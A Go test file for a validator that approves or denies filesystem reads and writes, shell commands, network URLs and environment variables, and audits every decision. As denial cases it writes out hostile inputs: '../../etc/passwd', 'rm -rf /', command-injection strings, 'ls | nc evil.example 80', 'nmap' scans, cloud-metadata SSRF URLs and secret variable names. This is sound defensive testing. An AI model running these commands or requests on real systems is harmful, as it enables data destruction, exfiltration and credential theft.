package resource

import (
	"context"
	"io"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"testing"

	"github.com/toolgate-dev/toolgate/api"
	"github.com/toolgate-dev/toolgate/internal/audit"
	"github.com/toolgate-dev/toolgate/internal/policy"
)

// memStore counts audit writes so tests can assert the one-record-per-call
// contract.
type memStore struct {
	audit.NopStore
	records []*api.AuditRecord
}

func (m *memStore) Write(_ context.Context, r *api.AuditRecord) error {
	m.records = append(m.records, r)
	return nil
}

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func newTestValidator(t *testing.T, opts ...Option) (*Validator, *memStore) {
	t.Helper()
	store := &memStore{}
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "src"), 0o750); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "src", "main.py"), []byte("print()\n"), 0o640); err != nil {
		t.Fatal(err)
	}
	all := append([]Option{WithProjectRoot(root)}, opts...)
	v := NewValidator(policy.BuildProfile(policy.ProfileDevelopment), store, testLogger(), all...)
	return v, store
}

func TestValidateRead_AllowListed(t *testing.T) {
	v, store := newTestValidator(t)

	d := v.ValidateRead(context.Background(), "src/main.py")
	if !d.Approved {
		t.Fatalf("expected approval, got denial: %s", d.Reason)
	}
	if d.Reason != "filesystem allow-list" {
		t.Errorf("unexpected reason: %s", d.Reason)
	}
	if len(store.records) != 1 {
		t.Errorf("expected exactly 1 audit record, got %d", len(store.records))
	}
}

func TestValidateRead_Traversal(t *testing.T) {
	v, store := newTestValidator(t)

	d := v.ValidateRead(context.Background(), "../../etc/passwd")
	if d.Approved {
		t.Fatal("traversal path must be denied")
	}
	if d.LayerViolations[0] != "path traversal" {
		t.Errorf("expected path traversal layer, got %v", d.LayerViolations)
	}
	if store.records[0].Threat != api.ThreatTraversal {
		t.Errorf("expected traversal threat category, got %q", store.records[0].Threat)
	}
}

func TestValidateRead_SensitiveDenylistWins(t *testing.T) {
	v, _ := newTestValidator(t)

	// Matches the broad "./**" read allow-list but is a credential file.
	d := v.ValidateRead(context.Background(), "src/.env")
	if d.Approved {
		t.Fatal("sensitive file must be denied despite allow-list match")
	}
	if d.LayerViolations[0] != "sensitive file" {
		t.Errorf("expected sensitive file layer, got %v", d.LayerViolations)
	}
}

func TestValidateRead_SymlinkRedirection(t *testing.T) {
	store := &memStore{}
	root := t.TempDir()
	outside := t.TempDir()

	target := filepath.Join(outside, "secret.txt")
	if err := os.WriteFile(target, []byte("x"), 0o640); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, filepath.Join(root, "innocent.txt")); err != nil {
		t.Skipf("symlinks unavailable: %v", err)
	}

	pol, err := policy.Customize(policy.BuildProfile(policy.ProfileDevelopment), policy.Overrides{
		FilesystemRead: []string{"innocent.txt"},
	})
	if err != nil {
		t.Fatal(err)
	}
	v := NewValidator(pol, store, testLogger(), WithProjectRoot(root))

	d := v.ValidateRead(context.Background(), "innocent.txt")
	if d.Approved {
		t.Fatal("symlink escaping the allow-list must be denied")
	}
	if d.LayerViolations[0] != "symlink redirection" {
		t.Errorf("expected symlink redirection layer, got %v", d.LayerViolations)
	}
}

func TestValidateRead_SymlinkDeterministic(t *testing.T) {
	v, _ := newTestValidator(t)

	first := v.ValidateRead(context.Background(), "src/main.py")
	second := v.ValidateRead(context.Background(), "src/main.py")
	if first.Approved != second.Approved || first.Reason != second.Reason {
		t.Error("same path must yield the same verdict")
	}
}

func TestValidateWrite_DeniedOutsideAllowList(t *testing.T) {
	v, _ := newTestValidator(t)

	d := v.ValidateWrite(context.Background(), "/etc/hosts")
	if d.Approved {
		t.Fatal("write outside allow-list must be denied")
	}
}

func TestValidateFS_MalformedInput(t *testing.T) {
	v, store := newTestValidator(t)

	for _, path := range []string{"", "   ", "bad\x00path"} {
		d := v.ValidateRead(context.Background(), path)
		if d.Approved {
			t.Errorf("malformed path %q must be denied", path)
		}
		if d.Reason != "malformed input" {
			t.Errorf("expected malformed input reason for %q, got %s", path, d.Reason)
		}
	}
	if len(store.records) != 3 {
		t.Errorf("expected 3 audit records, got %d", len(store.records))
	}
}

func TestValidateShell_AllowPattern(t *testing.T) {
	v, _ := newTestValidator(t)

	d := v.ValidateShell(context.Background(), "pytest tests/")
	if !d.Approved {
		t.Fatalf("expected approval, got: %s", d.Reason)
	}
	if d.Confidence != 0.9 {
		t.Errorf("pattern approval should have confidence 0.9, got %v", d.Confidence)
	}
}

func TestValidateShell_DenylistBeatsAllowList(t *testing.T) {
	v, store := newTestValidator(t)

	// "rm *" is in the development allow-list; the denylist still wins.
	d := v.ValidateShell(context.Background(), "rm -rf /")
	if d.Approved {
		t.Fatal("rm -rf / must be denied regardless of profile")
	}
	if d.LayerViolations[0] != "shell denylist" {
		t.Errorf("expected shell denylist layer, got %v", d.LayerViolations)
	}
	if store.records[0].Threat != api.ThreatInjection {
		t.Errorf("expected injection threat, got %q", store.records[0].Threat)
	}
}

func TestValidateShell_Metacharacters(t *testing.T) {
	v, _ := newTestValidator(t)

	for _, cmd := range []string{
		"ls; rm x",
		"cat a && cat b",
		"echo `whoami`",
		"cat $(find /)",
		"ls | nc evil.example 80",
		"cat a > b",
	} {
		d := v.ValidateShell(context.Background(), cmd)
		if d.Approved {
			t.Errorf("command with metacharacters must be denied: %q", cmd)
		}
	}
}

func TestValidateShell_ExactAllowBeatsMetacharacters(t *testing.T) {
	store := &memStore{}
	pol, err := policy.Customize(policy.BuildProfile(policy.ProfileDevelopment), policy.Overrides{
		AllowedCommands: []string{"git log --oneline | head"},
	})
	if err != nil {
		t.Fatal(err)
	}
	v := NewValidator(pol, store, testLogger())

	d := v.ValidateShell(context.Background(), "git log --oneline | head")
	if !d.Approved {
		t.Fatalf("exact allow-listed invocation must pass: %s", d.Reason)
	}
	if d.Confidence != 1.0 {
		t.Errorf("exact match should have confidence 1.0, got %v", d.Confidence)
	}
}

func TestValidateShell_NotAllowListed(t *testing.T) {
	v, _ := newTestValidator(t)

	d := v.ValidateShell(context.Background(), "nmap 10.0.0.0/8")
	if d.Approved {
		t.Fatal("unlisted command must be denied")
	}
	if d.LayerViolations[0] != "shell allow-list" {
		t.Errorf("expected shell allow-list layer, got %v", d.LayerViolations)
	}
}

func staticLookup(addrs map[string][]string) LookupFunc {
	return func(host string) ([]net.IP, error) {
		strs, ok := addrs[host]
		if !ok {
			return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
		}
		var ips []net.IP
		for _, s := range strs {
			ips = append(ips, net.ParseIP(s))
		}
		return ips, nil
	}
}

func TestValidateNetwork_SSRF(t *testing.T) {
	lookup := staticLookup(map[string][]string{
		"example.com":        {"93.184.216.34"},
		"internal.corp":      {"10.0.0.5"},
		"rebind.example.com": {"93.184.216.34", "127.0.0.1"},
	})
	v, store := newTestValidator(t, WithLookup(lookup))

	tests := []struct {
		name    string
		url     string
		approve bool
		layer   string
	}{
		{"public host", "https://example.com/api", true, ""},
		{"metadata ip", "http://169.254.169.254/latest/meta-data/", false, "ssrf metadata endpoint"},
		{"metadata hostname", "http://metadata.google.internal/computeMetadata/", false, "ssrf metadata endpoint"},
		{"loopback ip", "http://127.0.0.1:8080/", false, "ssrf loopback"},
		{"private resolution", "https://internal.corp/x", false, "ssrf private range"},
		{"partial rebind", "https://rebind.example.com/", false, "ssrf loopback"},
		{"unresolvable", "https://nope.invalid/", false, "network resolution"},
		{"bad scheme", "ftp://example.com/file", false, "network scheme"},
		{"not a url", "::::", false, "network"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := v.ValidateNetwork(context.Background(), tt.url)
			if d.Approved != tt.approve {
				t.Fatalf("approved=%v, want %v (reason: %s)", d.Approved, tt.approve, d.Reason)
			}
			if !tt.approve && d.LayerViolations[0] != tt.layer {
				t.Errorf("layer = %v, want %s", d.LayerViolations, tt.layer)
			}
		})
	}

	if len(store.records) != len(tests) {
		t.Errorf("expected %d audit records, got %d", len(tests), len(store.records))
	}
}

func TestValidateNetwork_DomainAllowList(t *testing.T) {
	lookup := staticLookup(map[string][]string{
		"api.github.com": {"140.82.112.6"},
		"example.org":    {"93.184.216.34"},
	})
	store := &memStore{}
	v := NewValidator(policy.BuildProfile(policy.ProfileProduction), store, testLogger(), WithLookup(lookup))

	if d := v.ValidateNetwork(context.Background(), "https://api.github.com/repos"); !d.Approved {
		t.Errorf("allow-listed domain denied: %s", d.Reason)
	}
	if d := v.ValidateNetwork(context.Background(), "https://example.org/"); d.Approved {
		t.Error("unlisted domain must be denied under production profile")
	}
}

func TestValidateEnv(t *testing.T) {
	v, _ := newTestValidator(t)

	tests := []struct {
		name    string
		approve bool
		layer   string
	}{
		{"HOME", true, ""},
		{"GOPATH", true, ""},
		{"AWS_SECRET_ACCESS_KEY", false, "secret variable"},
		{"GITHUB_TOKEN", false, "secret variable"},
		{"RANDOM_VAR", false, "environment allow-list"},
		{"not a var!", false, "environment"},
		{"", false, "environment"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := v.ValidateEnv(context.Background(), tt.name)
			if d.Approved != tt.approve {
				t.Fatalf("approved=%v, want %v (reason: %s)", d.Approved, tt.approve, d.Reason)
			}
			if !tt.approve && d.LayerViolations[0] != tt.layer {
				t.Errorf("layer = %v, want %s", d.LayerViolations, tt.layer)
			}
		})
	}
}

func TestValidateEnv_SecretException(t *testing.T) {
	store := &memStore{}
	pol, err := policy.Customize(policy.BuildProfile(policy.ProfileDevelopment), policy.Overrides{
		AllowedVars:      []string{"PATH", "VAULT_TOKEN_FILE"},
		SecretExceptions: []string{"VAULT_TOKEN_FILE"},
	})
	if err != nil {
		t.Fatal(err)
	}
	v := NewValidator(pol, store, testLogger())

	if d := v.ValidateEnv(context.Background(), "VAULT_TOKEN_FILE"); !d.Approved {
		t.Errorf("explicit exception must be approved: %s", d.Reason)
	}
}
